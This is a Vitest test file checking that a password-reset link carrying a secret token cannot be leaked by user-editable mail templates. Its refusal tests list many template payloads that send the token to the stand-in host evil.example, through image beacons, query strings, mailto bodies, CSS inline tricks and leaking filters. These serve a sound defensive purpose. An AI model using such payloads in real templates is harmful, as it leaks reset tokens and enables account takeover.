/** The link of a built-in mail carries a secret: no template can send it elsewhere, or see it. */
import { describe, expect, test } from 'vitest';
import { limits } from '../../server/core/limits.ts';
import { writeOwn, writeWaiting } from '../../server/mail/rendering.ts';
import { answerOf } from '../../server/mail/rules.ts';
import { TemplateError } from '../../server/mail/template-error.ts';
import { shownVariables } from '../../server/mail/variables.ts';

const actionUrl = 'https://accord.example/account/reset?tenant=x&token=s3cret#part';
const escaped = actionUrl.replace('&', '&amp;');
const variables = { application: 'Cars', actionUrl, validMinutes: 30 };
const shown = shownVariables('password-reset', 'en', variables, '');
const write = (own: { subject?: string; html?: string; text?: string }) =>
  writeOwn('password-reset', { subject: 'x', ...own }, shown);

describe('stands', () => {
  test.each([
    ['<p><a href="{{ actionUrl }}">Reset</a></p>', `<p><a href="${escaped}">Reset</a></p>`],
    ["<a href='{{actionUrl}}'>{{ actionUrl }}</a>", `<a href="${escaped}">${escaped}</a>`],
    ['<p>Go to</p><p>{{ actionUrl }}</p>', `<p>Go to</p><p>${escaped}</p>`],
    [
      '<a href="{{ actionUrl }}" style="display:inline-block">Reset</a><p>{{ actionUrl }}</p>',
      `<a href="${escaped}" style="display:inline-block">Reset</a><p>${escaped}</p>`,
    ],
    ['Go to &lt;{{ actionUrl }}&gt;, or <b>{{ actionUrl }}</b>.', `Go to &lt;${escaped}&gt;, or <b>${escaped}</b>.`],
  ])('in HTML: %s', (html, expected) => {
    expect(write({ html }).html).toBe(expected);
    expect(write({ html }).text).toContain(actionUrl);
  });

  test.each([
    ['{{ actionUrl }}', actionUrl],
    ['Go to:\n{{ actionUrl }}\nor "{{ actionUrl }}".', `Go to:\n${actionUrl}\nor "${actionUrl}".`],
    ['<{{ actionUrl }}>', `<${actionUrl}>`],
  ])('in text: %s', (text, expected) => {
    expect(write({ text }).text).toBe(expected);
  });
});

const refused = /actionUrl must be the whole href of a link, or stand by itself/;

describe('is refused', () => {
  test.each([
    '<img src="{{ actionUrl }}" alt="">',
    '<img src="https://evil.example/p?u={{ actionUrl | url_encode }}" alt="">',
    '<a href="https://evil.example/?u={{ actionUrl }}">x</a>',
    '<a href="{{ actionUrl }}@evil.example">x</a>',
    '<a href="mailto:evil@evil.example?body={{ actionUrl }}">x</a>',
    '<a href="https://accord.example" title="{{ actionUrl }}">x</a>',
    '<p>https://evil.example/?u={{ actionUrl }}</p>',
    '<p>https://evil.example/?u=<b>{{ actionUrl }}</b></p>',
    '<p>https://evil.example/?u=1&amp;v={{ actionUrl }}</p>',
    'https://evil.example/?u=<div style="display:inline">{{ actionUrl }}</div>',
    'https://evil.example/?u=<p style="color:red; display: inline-block">{{ actionUrl }}</p>',
    '<div style="display:inline">https://evil.example/?u=</div>{{ actionUrl }}',
    '<p style="display:table-cell">https://evil.example/?u=</p><p style="display:table-cell">{{ actionUrl }}</p>',
    'https://evil.example/?u=<table style="display:inline"><tr><td>{{ actionUrl }}</td></tr></table>',
    'https://evil.example/?u=<img src="https://evil.example/1.png" alt="">{{ actionUrl }}',
    '<p>https://evil.example/({{ actionUrl }})</p>',
    '<p>https://evil.example/\u200b{{ actionUrl }}</p>',
    '<p>{{ actionUrl | remove: "https://" }}</p>',
    '<p>{{ actionUrl | upcase }}</p>',
  ])('in HTML: %s', (html) => {
    expect(() => write({ html })).toThrow(refused);
  });

  test.each([
    'https://evil.example/?u={{ actionUrl }}',
    '{{ actionUrl | split: "/" | last }}',
    'evil.example/{{ actionUrl }}',
  ])('in text: %s', (text) => {
    expect(() => write({ text })).toThrow(refused);
  });

  test('in the subject, which is logged and shown in lists', () => {
    expect(() => write({ subject: '{{ actionUrl }}', text: 'x' })).toThrow(refused);
  });
});

test('no filter and no condition sees the secret', () => {
  const text =
    '{{ actionUrl | size }}{% if actionUrl contains "s3cret" %}yes{% endif %}{{ actionUrl | base64_encode }}';
  const written = write({ text }).text;
  expect(written).not.toContain('yes');
  expect(Buffer.from(written.slice(2), 'base64').toString()).not.toContain('s3cret');
});

test('a mail is written by the built-in template where the link would go elsewhere on a path that nobody tried', () => {
  const html = '<p>{% if application == "Cars" %}<img src="{{ actionUrl }}">{% endif %}</p>';
  let failed = 0;
  const mail = writeWaiting(
    'password-reset',
    { own: { subject: 'x', html }, language: 'en', builtIn: 'en' },
    variables,
    () => failed++,
  );
  if (mail instanceof TemplateError) throw mail;
  expect([failed, mail.html?.includes(`href="${escaped}"`), mail.html?.includes('<img')]).toEqual([1, true, false]);
});

test('what a mail server says is cut before it is searched for addresses', () => {
  const before = process.threadCpuUsage();
  expect(answerOf(`554 ${'a'.repeat(1_000_000)}`)).toBe('554');
  const long = (chars: number) => `554 ${'a'.repeat(chars - 4)}`;
  expect(answerOf(long(limits.mailAnswerCharsLookedAtMax))).toHaveLength(limits.mailAnswerCharsMax);
  expect(answerOf(long(limits.mailAnswerCharsLookedAtMax + 1))).toBe('554');
  expect(answerOf(`550 <bob@example.org>: no such user\r\n${'x'.repeat(100_000)}`)).toBe('550 <***>: no such user');
  expect(answerOf(`550 ${'bob@example.org '.repeat(500)}bob`)).not.toMatch(/bob|@/);
  const { user, system } = process.threadCpuUsage(before);
  expect((user + system) / 1000).toBeLessThan(1000);
});
